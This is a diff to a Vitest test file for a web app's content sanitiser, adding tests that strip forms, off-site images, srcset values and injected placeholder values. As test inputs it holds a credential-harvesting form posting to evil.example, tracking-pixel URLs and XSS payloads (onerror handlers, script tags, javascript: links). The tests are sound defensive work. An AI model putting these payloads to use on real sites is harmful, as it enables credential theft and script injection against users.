@@ -1,4 +1,4 @@
-import { describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it, vi } from 'vitest';
 import { parseContentPage } from '../../src/content/parse-content-page';
 import { sanitizeRichText } from '../../src/content/sanitize';
 
@@ -76,34 +76,67 @@ describe('parseContentPage', () => {
     expect(content.textContent).toContain('Safe text');
   });
 
-  it('keeps the controls of a nucleus form but not its scripts or handlers', () => {
+  it('removes forms and every form control, keeping a nucleus form slot for the form scripts', () => {
     const parsed = parseContentPage(
       page({
         head: '<meta name="nucleus-content" content="true" />',
         body: `<div class="content-panel__body">
-          <form class="nucleus-form" data-nucleus-form="eligibility" action="/help-and-support/x" method="get" onsubmit="steal()">
-            <fieldset><legend>Where do you live?</legend>
-              <input type="radio" id="nation-england" name="nation" value="england" required />
-              <label for="nation-england">England</label>
+          <div class="nucleus-form-slot" data-nucleus-form="warm-home-discount-eligibility"></div>
+          <form class="nucleus-form" action="https://evil.example/collect" method="post">
+            <fieldset><legend>Your account</legend>
+              <label for="password">Password</label>
+              <input type="password" id="password" name="password" />
+              <input type="image" src="/images/go.png" alt="Go" />
+              <select name="bank"><option value="x">Bank</option></select>
+              <textarea name="notes">Notes</textarea>
             </fieldset>
-            <button type="submit">Check my eligibility</button>
-            <div class="nucleus-form__result" aria-live="polite"></div>
-            <script src="/evil.js"></script>
-          </form></div>`,
+            <button type="submit" formaction="https://evil.example/">Log in</button>
+          </form>
+          <p>After the form</p>
+        </div>`,
       }),
     );
     const content = fragment(parsed.markup);
-    const form = content.querySelector('form');
-    expect(form?.getAttribute('data-nucleus-form')).toBe('eligibility');
-    expect(form?.getAttribute('onsubmit')).toBeNull();
-    expect(content.querySelector('legend')?.textContent).toBe('Where do you live?');
-    const radio = content.querySelector('input');
-    expect(radio?.getAttribute('type')).toBe('radio');
-    expect(radio?.hasAttribute('required')).toBe(true);
-    expect(content.querySelector('label')?.getAttribute('for')).toBe('nation-england');
-    expect(content.querySelector('button')?.textContent).toBe('Check my eligibility');
-    expect(content.querySelector('[aria-live="polite"]')).not.toBeNull();
-    expect(content.querySelector('script')).toBeNull();
+    for (const tag of ['form', 'input', 'button', 'select', 'option', 'textarea']) {
+      expect(content.querySelector(tag), tag).toBeNull();
+    }
+    expect(parsed.markup).not.toContain('evil.example');
+    const slot = content.querySelector('[data-nucleus-form]');
+    expect(slot?.getAttribute('data-nucleus-form')).toBe('warm-home-discount-eligibility');
+    expect(slot?.className).toBe('nucleus-form-slot');
+    expect(content.textContent).toContain('After the form');
+    expect(parsed.nucleusContent).toBe(true);
+  });
+
+  it('keeps images of this site only, and no srcset anywhere', () => {
+    const origin = window.location.origin;
+    const parsed = parseContentPage(
+      page({
+        body: `<div class="content-panel__body">
+          <img src="/images/relative-root.svg" alt="root" />
+          <img src="images/relative.svg" alt="relative" />
+          <img src="${origin}/images/absolute.svg" alt="absolute" srcset="https://evil.example/big.png 2x" />
+          <img src="https://evil.example/pixel.png" alt="external" />
+          <img src="//evil.example/pixel.png" alt="protocol-relative" />
+          <img src="  HTTPS://EVIL.EXAMPLE/pixel.png" alt="shouting" />
+          <img src="${origin}.evil.example/pixel.png" alt="lookalike" />
+          <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data" />
+          <img alt="no source" />
+          <picture><source srcset="https://evil.example/a.webp" type="image/webp" /><img src="/images/p.png" alt="picture" /></picture>
+          <table background="https://evil.example/bg.png"><tr><td>Cell</td></tr></table>
+        </div>`,
+      }),
+    );
+    const content = fragment(parsed.markup);
+    expect([...content.querySelectorAll('img')].map((image) => image.getAttribute('alt'))).toEqual([
+      'root',
+      'relative',
+      'absolute',
+      'picture',
+    ]);
+    expect(content.querySelector('[srcset]')).toBeNull();
+    expect(parsed.markup).not.toMatch(/srcset|evil\.example|background=/i);
+    expect(content.textContent).toContain('Cell');
   });
 
   it('fills phone placeholders and keeps tel: links free of spaces', () => {
@@ -115,6 +148,50 @@ describe('parseContentPage', () => {
     const link = fragment(parsed.markup).querySelector('a');
     expect(link?.getAttribute('href')).toBe('tel:0800111999');
     expect(link?.textContent).toBe('0800 111 999');
+  });
+});
+
+describe('placeholders are filled before sanitising', () => {
+  afterEach(() => {
+    vi.unstubAllEnvs();
+    vi.resetModules();
+  });
+
+  /** parseContentPage with the configuration read afresh from the stubbed VITE_* variables. */
+  async function parseWithConfig(env: Record<string, string>, body: string) {
+    for (const [name, value] of Object.entries(env)) vi.stubEnv(name, value);
+    vi.resetModules();
+    const module = await import('../../src/content/parse-content-page');
+    return module.parseContentPage(
+      page({ body: `<div class="content-panel__body">${body}</div>` }),
+    );
+  }
+
+  it('sanitises what a placeholder brings into the markup', async () => {
+    const parsed = await parseWithConfig(
+      {
+        VITE_PROVIDER_NAME:
+          'Acme<img src=x onerror="window.pwned = true"><script>alert(1)</script>',
+      },
+      '<p>Welcome to {provider}.</p>',
+    );
+    const content = fragment(parsed.markup);
+    expect(content.querySelector('script, [onerror]')).toBeNull();
+    expect(parsed.markup).not.toMatch(/onerror|<script/i);
+    expect(content.textContent).toContain('Welcome to Acme');
+  });
+
+  it('judges a placeholder inside an attribute by its filled value', async () => {
+    const parsed = await parseWithConfig(
+      {
+        VITE_PROVIDER_NAME: 'https://evil.example/pixel.png',
+        VITE_PHONE_CUSTOMER_SERVICE: 'javascript:alert(1)',
+      },
+      '<img src="{provider}" alt="logo" /><a href="{customerServicePhone}">Call</a>',
+    );
+    const content = fragment(parsed.markup);
+    expect(content.querySelector('img')).toBeNull();
+    expect(content.querySelector('a')?.hasAttribute('href')).toBe(false);
   });
 });
 
